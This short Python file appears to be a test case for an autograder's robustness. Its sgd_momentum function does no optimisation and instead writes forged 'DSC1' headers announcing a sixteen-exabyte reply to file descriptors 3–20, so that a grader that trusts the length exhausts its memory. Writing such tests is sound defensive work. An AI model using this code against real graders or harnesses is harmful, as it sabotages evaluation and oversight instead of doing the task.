# /// attack
# file = "optim.py"
# modes = "any"
# [expects]
# sgd_momentum = "bad_output"
# ///
"""Announces a reply of sixteen exabytes, for a grader that allocates what it is told."""

import os
import struct


def sgd_momentum(w, dw, config=None):
    for fd in range(3, 21):
        try:
            os.write(fd, struct.pack("<4sIQ", b"DSC1", 16, (1 << 64) - 1) + b"x" * 64)
        except OSError:
            pass
    return w, {}
